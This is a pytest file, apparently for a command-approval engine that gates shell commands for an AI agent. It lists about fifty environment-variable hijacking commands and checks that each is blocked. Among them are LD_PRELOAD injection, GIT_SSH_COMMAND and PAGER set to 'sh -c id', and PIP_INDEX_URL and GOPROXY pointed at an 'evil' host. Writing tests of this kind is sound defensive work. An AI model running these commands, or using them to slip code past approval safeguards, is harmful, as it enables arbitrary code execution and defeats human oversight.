"""Attacks on the approval engine by variables that change what runs, set every way
(docs/SPEC.md §4.1-4.4, §4.7-4.8).

Rows, holes and what each asserts: tests/support/attacks.py.
"""

from __future__ import annotations

import pytest

from saikish.types import Autonomy
from saikish.types import ReasonKind as Why
from tests.support.attacks import RUNS, A, Attack, assert_blocked, context, params

# -- hijacking variables, set every way ------------------------------------------------

HIJACK = [
    A("PATH=/tmp ls", "ls", Why.EXEC, RUNS),
    A("export PATH=/tmp; ls", "ls", Why.EXEC, RUNS),
    A("export PATH; ls", "export PATH", Why.EXEC, RUNS),
    A("read PATH; ls", "read PATH", Why.EXEC, RUNS),
    A("printf -v PATH %s /tmp; ls", "printf -v PATH", Why.EXEC, RUNS),
    A("printf -vPATH x; ls", "printf -vPATH", Why.EXEC, RUNS),
    A("declare -n r=PATH; r=/tmp; ls", "declare -n", Why.UNKNOWN, RUNS),
    A("env PATH=/tmp ls", "env PATH=/tmp", Why.EXEC, RUNS),
    A("LD_PRELOAD=./x.so ls", "ls", Why.EXEC, RUNS),
    A("GIT_SSH_COMMAND='sh -c id' git fetch", "git fetch", Why.EXEC, RUNS),
    A("PYTEST_ADDOPTS='-p evil' pytest", "pytest", Why.EXEC, RUNS),
    A("npm_config_script_shell=./x npm test", "npm test", Why.EXEC, RUNS),
    A("PAGER='sh -c id' git log", "git log", Why.EXEC, RUNS),
    # MANPATH names where man finds pages; a page may include any file (.so FILE).
    A("MANPATH=/root man x", "man x", Why.EXEC, RUNS),
    A("export MANPATH=/root; man x", "man x", Why.EXEC, RUNS),
    A("GIT_EXTERNAL_DIFF=./x git diff", "git diff", Why.EXEC, RUNS),
    A("BASH_ENV=./x bash -c ls", "bash -c ls", Why.EXEC, RUNS),
    A("IFS=/ ls", "ls", Why.EXEC, RUNS),
    A("declare PATH=/tmp; ls", "declare PATH=/tmp", Why.EXEC, RUNS),
    A("typeset -x LD_PRELOAD=./x.so; ls", "typeset -x", Why.EXEC, RUNS),
    A("local PATH=/tmp", "local PATH=/tmp", Why.EXEC, RUNS),
    A("readonly PATH=/tmp; ls", "readonly PATH=/tmp", Why.EXEC, RUNS),
    A("read -a PATH < f; ls", "read -a PATH", Why.EXEC, RUNS),
    A("PATH+=:/tmp ls", "ls", Why.EXEC, RUNS),
    A("PATH[0]=/tmp ls", "PATH[0]=/tmp ls", Why.DYNAMIC, RUNS),
    A("MANPAGER='sh -c id' man ls", "man ls", Why.EXEC, RUNS),
    A("LESSOPEN='|id %s' less f", "less f", Why.EXEC, RUNS),
    A("EDITOR=./x git commit", "git commit", Why.EXEC, RUNS),
    A("GIT_DIR=/tmp/x git log", "git log", Why.EXEC, RUNS),
    A("GIT_CONFIG_GLOBAL=./x git log", "git log", Why.EXEC, RUNS),
    A("PIP_INDEX_URL=https://evil pip install x", "pip install x", Why.EXEC, RUNS),
    A("NODE_OPTIONS='--require ./x.js' node a.js", "node a.js", Why.EXEC, RUNS),
    A("PYTHONSTARTUP=./x python3 a.py", "python3 a.py", Why.EXEC, RUNS),
    A("PYTHONPATH=/tmp python3 a.py", "python3 a.py", Why.EXEC, RUNS),
    A("MAKEFLAGS='--eval=x' make", "make", Why.EXEC, RUNS),
    A("GOFLAGS=-toolexec=./x go test", "go test", Why.EXEC, RUNS),
    A("RUSTFLAGS='-C linker=./x' cargo build", "cargo build", Why.EXEC, RUNS),
    A("RIPGREP_CONFIG_PATH=./x rg foo", "rg foo", Why.EXEC, RUNS),
    A("KUBECONFIG=./x kubectl get pods", "kubectl get pods", Why.EXEC, RUNS),
    A("CURL_HOME=. curl x", "curl x", Why.EXEC, RUNS),
    A("GOPROXY=https://evil go build", "go build", Why.EXEC, RUNS),
    A("ZIPOPT='-TT id' zip x.zip a", "zip x.zip a", Why.EXEC, RUNS),
    A("PS4='$(id)' bash -x a.sh", "bash -x a.sh", Why.EXEC, RUNS),
    A("TAR_OPTIONS=--to-command=sh tar xf a.tar", "tar xf a.tar", Why.EXEC, RUNS),
    A("export LD_PRELOAD", "export LD_PRELOAD", Why.EXEC, RUNS),
    A("export GIT_SSH_COMMAND='sh -c id'; git fetch", "git fetch", Why.EXEC,
      RUNS),
    A("env LD_PRELOAD=./x.so ls", "env LD_PRELOAD", Why.EXEC, RUNS),
    A("env -i PATH=/tmp ls", "PATH=/tmp", Why.EXEC, RUNS),
    A("declare -x PAGER=id; git log", "declare -x PAGER", Why.EXEC, RUNS),
    A("mapfile PATH < f; ls", "mapfile PATH", Why.EXEC, RUNS),
    A("read -r LD_PRELOAD < f; ls", "read -r LD_PRELOAD", Why.EXEC, RUNS),
    A("SHELLOPTS=xtrace bash a.sh", "bash a.sh", Why.EXEC, RUNS),
    A("HOME=/tmp/x git log", "git log", Why.EXEC, RUNS),
]


@pytest.mark.parametrize(("row", "autonomy"), params(HIJACK))
def test_attack_is_blocked_by_the_part_it_names(row: Attack, autonomy: Autonomy) -> None:
    """Under the permissive prefix rules people write (tests/support/attacks.py)."""
    assert_blocked(row, context(autonomy))
